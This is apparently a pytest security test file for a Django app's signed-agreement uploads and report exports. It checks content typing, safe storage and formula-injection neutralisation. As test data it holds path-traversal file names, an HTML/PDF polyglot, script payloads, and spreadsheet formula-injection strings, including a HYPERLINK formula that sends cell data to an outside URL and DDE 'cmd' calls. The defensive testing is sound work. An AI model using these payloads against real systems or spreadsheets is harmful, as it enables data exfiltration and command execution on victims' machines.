"""Uploads (type by content, size limit, server-chosen names, stored outside the web root,
served only as attachments) and exports (formula injection neutralised in CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse
from openpyxl import load_workbook

from agreements.models import SignedAgreement
from tests.factories import (
    ApplicationFactory,
    FacilitatorFactory,
    OrganisationFactory,
    ProgrammeFactory,
    UserFactory,
    VoucherFactory,
)
from tests.pdfs import (
    pdf_with_embedded_file,
    pdf_with_launch_action,
    pdf_with_open_action_javascript,
)
from tests.security.world import MINIMAL_PDF

pytestmark = pytest.mark.django_db

HTML_AS_PDF = b"<html><body><script>alert(document.cookie)</script></body></html>"
POLYGLOT = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"


def upload(client, world, content: bytes, name: str, content_type="application/pdf"):
    client.force_login(world.user("applicant"))
    return client.post(
        reverse("agreements:upload", args=[world.issued_voucher.pk]),
        {"file": SimpleUploadedFile(name, content, content_type=content_type)},
    )


def stored_files(root: Path) -> list[Path]:
    return sorted(p for p in Path(root).rglob("*") if p.is_file())


def test_html_disguised_as_pdf_is_refused_and_nothing_is_stored(client, world, media_root):
    before = stored_files(media_root)
    response = upload(client, world, HTML_AS_PDF, "vereinbarung.pdf")
    assert response.status_code == 400
    assert "keine PDF-Datei" in response.content.decode()
    assert stored_files(media_root) == before
    assert SignedAgreement.objects.filter(voucher=world.issued_voucher).count() == 1


def test_oversized_upload_is_refused(client, world, media_root, settings):
    settings.MAX_SIGNED_UPLOAD_BYTES = 1024
    response = upload(client, world, MINIMAL_PDF + b"0" * 1024, "gross.pdf")
    assert response.status_code == 400
    assert "zu groß" in response.content.decode()


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd.pdf",
        "..\\..\\win.ini.pdf",
        "<script>alert(1)</script>.pdf",
        "a" * 300,
    ],
)
def test_the_server_chooses_the_stored_name(client, world, media_root, name):
    response = upload(client, world, MINIMAL_PDF, name)
    assert response.status_code == 302
    signed = SignedAgreement.objects.filter(voucher=world.issued_voucher).latest("uploaded_at")
    stored = Path(signed.file.path).resolve()
    assert stored.is_relative_to(Path(media_root).resolve())
    assert stored.name == f"{signed.uuid}.pdf"
    assert "passwd" not in signed.file.name
    assert "script" not in signed.file.name
    assert "win.ini" not in signed.file.name


def test_a_pdf_html_polyglot_is_refused_and_nothing_is_stored(client, world, media_root):
    """F7 (issue 21): starting with ``%PDF-`` is not enough; the file must parse as a PDF."""
    before = stored_files(media_root)
    response = upload(client, world, POLYGLOT, "scan.pdf")
    assert response.status_code == 400
    assert "nicht als PDF lesen" in response.content.decode()
    assert stored_files(media_root) == before


@pytest.mark.parametrize(
    "make",
    [pdf_with_open_action_javascript, pdf_with_launch_action, pdf_with_embedded_file],
    ids=["openaction-javascript", "launch", "embedded-file"],
)
def test_pdfs_with_active_content_are_refused(client, world, media_root, make):
    before = stored_files(media_root)
    response = upload(client, world, make(), "scan.pdf")
    assert response.status_code == 400
    assert "aktive Inhalte" in response.content.decode()
    assert stored_files(media_root) == before


def test_a_plain_scan_is_only_ever_served_as_a_pdf_attachment(client, world):
    assert upload(client, world, MINIMAL_PDF, "scan.pdf").status_code == 302
    signed = SignedAgreement.objects.filter(voucher=world.issued_voucher).latest("uploaded_at")
    response = client.get(reverse("agreements:signed_download", args=[signed.pk]))
    assert response.status_code == 200
    b"".join(response.streaming_content)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Vereinbarung-" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_media_lives_outside_the_web_root_and_has_no_url():
    media = Path(settings.MEDIA_ROOT).resolve()
    web_roots = [Path(settings.STATIC_ROOT).resolve(), *map(Path, settings.STATICFILES_DIRS)]
    for root in web_roots:
        assert not media.is_relative_to(root.resolve())
        assert not root.resolve().is_relative_to(media)
    assert not media.is_relative_to(Path(settings.BASE_DIR, "templates").resolve())
    for path in (
        settings.MEDIA_URL,
        settings.MEDIA_URL + "signed/1/x.pdf",
        "/media/signed/1/x.pdf",
    ):
        with pytest.raises(Resolver404):
            resolve(path)


def test_stored_files_cannot_be_fetched_by_path(client, world):
    client.force_login(world.user("office"))
    name = world.signed.file.name
    for prefix in (settings.MEDIA_URL, "/media/", "/static/", "/"):
        response = client.get(prefix + name)
        assert response.status_code == 404, prefix


# --- exports ----------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://example.org/?d="&A1,"Details")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_data(db):
    programme = ProgrammeFactory()
    for n, payload in enumerate(PAYLOADS):
        organisation = OrganisationFactory(name=payload + f" #{n}")
        ApplicationFactory(organisation=organisation, programme=programme, topics_other=payload)
        facilitator = FacilitatorFactory(user__last_name=payload)
        VoucherFactory(organisation=organisation, programme=programme, facilitators=[facilitator])
    return programme


def _export(client, report: str, file_format: str) -> bytes:
    client.force_login(UserFactory(role="office"))
    response = client.get(reverse("reports:export", args=[report, file_format]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _hostile(value: str) -> bool:
    return any(p.strip("\t\r")[:6] in value for p in PAYLOADS)


@pytest.mark.parametrize("report", ["antraege", "gutscheine"])
def test_csv_cells_never_start_a_formula(client, hostile_data, report):
    text = _export(client, report, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row if _hostile(cell)]
    assert len(cells) >= len(PAYLOADS)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
        if cell.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell.startswith("'"), repr(cell)


@pytest.mark.parametrize("report", ["antraege", "gutscheine"])
def test_xlsx_cells_are_strings_never_formulas(client, hostile_data, report):
    data = _export(client, report, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for sheet in sheets:
            assert b"<f>" not in archive.read(sheet)  # no formula element anywhere
    workbook = load_workbook(io.BytesIO(data))
    cells = [
        cell
        for row in workbook.active.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and _hostile(cell.value)
    ]
    assert len(cells) >= len(PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert not cell.value.startswith(("=", "+", "-", "@")), repr(cell.value)
